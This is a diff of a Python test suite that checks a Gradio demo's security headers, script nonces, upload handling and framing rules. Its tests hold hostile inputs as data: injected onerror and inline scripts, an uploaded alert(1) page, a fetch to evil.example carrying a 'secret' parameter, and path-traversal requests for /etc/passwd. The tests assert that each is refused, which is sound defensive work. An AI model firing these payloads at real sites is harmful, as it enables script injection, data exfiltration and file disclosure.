@@ -11,6 +11,7 @@ import gradio as gr
 import httpx
 import numpy as np
 import pytest
+from browser import ANSWER_S
 from gradio_client import Client, handle_file
 from gradio_client.exceptions import AppError
 from PIL import Image
@@ -28,16 +29,22 @@ ROOT = Path(__file__).parent.parent
 FILES = sorted((ROOT / "examples" / "images").glob("*.png"))
 FRAME = '<iframe src="{}" width="900" height="700"></iframe>'
 
-INJECT = """() => {
-    window.ran = false;
+# Both kinds of foreign code: the answer comes once the browser has refused both, or at the first
+# that runs.
+INJECT = """() => new Promise((resolve) => {
+    window.ran = () => resolve("ran");
+    const refused = new Set();
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+        refused.add(effectiveDirective);
+        if (refused.size === 2) resolve([...refused].sort().join(", "));
+    });
     const place = document.createElement("div");
     document.body.append(place);
-    place.innerHTML = `<img src="x" onerror="window.ran = true">`;
+    place.innerHTML = `<img src="x" onerror="ran()">`;
     const script = document.createElement("script");
-    script.textContent = "window.ran = true";
+    script.textContent = "ran()";
     document.body.append(script);
-    return new Promise((resolve) => setTimeout(() => resolve(window.ran), 300));
-}"""
+})"""
 FETCH = "url => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'refused')"
 
 
@@ -45,6 +52,7 @@ FETCH = "url => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'refused'
 def plain_page(chromium):
     """A page whose console may complain, since the test provokes what the policy forbids."""
     context = chromium.new_context()
+    context.set_default_timeout(ANSWER_S * 1000)
     yield context.new_page()
     context.close()
 
@@ -54,8 +62,15 @@ def policy_of(answer):
     return {rule.partition(" ")[0]: rule.split()[1:] for rule in rules}
 
 
-def test_health(app):
-    answer = httpx.get(f"{app.url}/health").json()
+@pytest.fixture
+def web(app):
+    """Asks the demo by paths; a busy machine may take its time."""
+    with httpx.Client(base_url=app.url, timeout=ANSWER_S) as client:
+        yield client
+
+
+def test_health(web):
+    answer = web.get("/health").json()
     available = weights.available()
     assert answer["status"] == "ok"
     assert answer["version"] == busmtl.__version__
@@ -63,10 +78,8 @@ def test_health(app):
     assert DEFAULT_VARIANT in answer["networks"]["loaded"]
 
 
-def test_it_starts_without_network_and_asks_for_none(app):
-    log = app.log.read_text()
-    assert f"Running on local URL:  {app.url}" in log
-    assert "REACHED_OUT" not in log
+def test_it_starts_without_network(app):
+    assert f"Running on local URL:  {app.url}" in app.log.read_text()
 
 
 def test_health_does_not_wait_for_a_network_that_is_being_loaded():
@@ -74,13 +87,13 @@ def test_health_does_not_wait_for_a_network_that_is_being_loaded():
     options = server.launch_options(networks, "")
     (route,) = options["app_kwargs"]["routes"]
     with networks._lock, ThreadPoolExecutor(1) as pool:  # Playwright's loop runs in this thread
-        answer = pool.submit(lambda: asyncio.run(route.endpoint(None))).result(timeout=10)
+        answer = pool.submit(lambda: asyncio.run(route.endpoint(None))).result(ANSWER_S)
     assert json.loads(answer.body)["networks"]["loaded"] == []
 
 
 @pytest.mark.parametrize("path", ["/", "/health", "/config", "/theme.css"])
-def test_every_answer_is_guarded(app, path):
-    answer = httpx.get(app.url + path)
+def test_every_answer_is_guarded(web, path):
+    answer = web.get(path)
     assert answer.status_code == 200
     assert answer.headers["x-content-type-options"] == "nosniff"
     assert answer.headers["referrer-policy"] == "same-origin"
@@ -92,20 +105,20 @@ def test_every_answer_is_guarded(app, path):
     assert not outside
 
 
-def test_each_page_has_its_own_nonce(app):
+def test_each_page_has_its_own_nonce(web):
     nonces = set()
     for _ in range(2):
-        answer = httpx.get(app.url)
+        answer = web.get("/")
         (nonce,) = [s for s in policy_of(answer)["script-src"] if s.startswith("'nonce-")]
         assert f'<script nonce="{nonce[7:-1]}"' in answer.text
         nonces.add(nonce)
     assert len(nonces) == 2
 
 
-def test_an_uploaded_page_gets_no_leave_to_run(app):
+def test_an_uploaded_page_gets_no_leave_to_run(web):
     html = b"<script>alert(1)</script>"
-    sent = httpx.post(f"{app.url}/gradio_api/upload", files={"files": ("a.html", html)})
-    answer = httpx.get(f"{app.url}/gradio_api/file={sent.json()[0]}")
+    sent = web.post("/gradio_api/upload", files={"files": ("a.html", html)})
+    answer = web.get(f"/gradio_api/file={sent.json()[0]}")
     assert answer.content == html
     assert answer.headers["content-disposition"].startswith("attachment")
     assert "'unsafe-inline'" not in policy_of(answer)["script-src"]
@@ -114,7 +127,7 @@ def test_an_uploaded_page_gets_no_leave_to_run(app):
 def test_foreign_code_does_not_run_and_nothing_is_sent_out(app, plain_page):
     plain_page.goto(app.url)
     expect(plain_page.locator("#picture .frame")).to_be_visible()
-    assert plain_page.evaluate(INJECT) is False
+    assert plain_page.evaluate(INJECT) == "script-src-attr, script-src-elem"
     plain_page.route("https://evil.example/**", lambda route: route.fulfill(body="got it"))
     assert plain_page.evaluate(FETCH, "https://evil.example/?secret") == "refused"
 
@@ -136,6 +149,8 @@ def test_the_hub_may_frame_the_page(app, plain_page, origin):
 def test_nobody_else_may_frame_the_page(app, plain_page):
     with plain_page.expect_console_message(lambda message: "frame-ancestors" in message.text):
         picture = frame_it(plain_page, app, "https://evil.example")
+    refusal = plain_page.frame_locator("iframe").locator("body")
+    expect(refusal).to_contain_text("refused to connect")
     expect(picture).to_have_count(0)
 
 
@@ -148,8 +163,9 @@ def test_an_upload_stays_with_its_visitor(open_page, app, tmp_path):
     shown = second.locator("#picture img.base").get_attribute("src")
     first.set_input_files("#upload input[type=file]", own)
     expect(first.locator("#picture .name")).to_have_text("own.png")
-    second.locator("#opacity input[type=range]").press("Home")
-    second.wait_for_timeout(300)
+    second.get_by_role("button", name="Threshold and assumptions").click()
+    second.get_by_label("My own", exact=True).check()
+    expect(second.locator(".points [aria-current]")).to_contain_text("My own")  # by the server
     assert second.locator("#picture img.base").get_attribute("src") == shown
     third = open_page()
     for other in (second, third):
@@ -158,8 +174,8 @@ def test_an_upload_stays_with_its_visitor(open_page, app, tmp_path):
 
 
 @pytest.mark.parametrize("path", ["/etc/passwd", "../app.py", str(ROOT / "app.py")])
-def test_files_of_the_server_stay_there(app, path):
-    answer = httpx.get(f"{app.url}/gradio_api/file={path}")
+def test_files_of_the_server_stay_there(web, path):
+    answer = web.get(f"/gradio_api/file={path}")
     assert answer.status_code in (403, 404)
 
 
@@ -169,7 +185,7 @@ def test_the_example_client_gets_what_the_package_gives(app, tmp_path):
         cwd=tmp_path,
         capture_output=True,
         text=True,
-        timeout=120,
+        timeout=ANSWER_S,
     )
     assert ran.returncode == 0, ran.stderr
     expected = Predictor(DEFAULT_VARIANT).predict(FILES[-1])
@@ -199,7 +215,7 @@ def test_a_caller_gets_a_sentence_for_a_bad_file(app, tmp_path):
 def test_two_callers_with_one_and_the_same_file_both_get_an_answer(app):
     client = Client(app.url, verbose=False)
     jobs = [client.submit(handle_file(FILES[2]), api_name="/predict") for _ in range(4)]
-    answers = [job.result(timeout=120) for job in jobs]
+    answers = [job.result(ANSWER_S) for job in jobs]
     assert len({answer["malignant_prob"] for answer in answers}) == 1
     assert tuple(answers[0]["size_hw"]) == Image.open(FILES[2]).size[::-1]
 
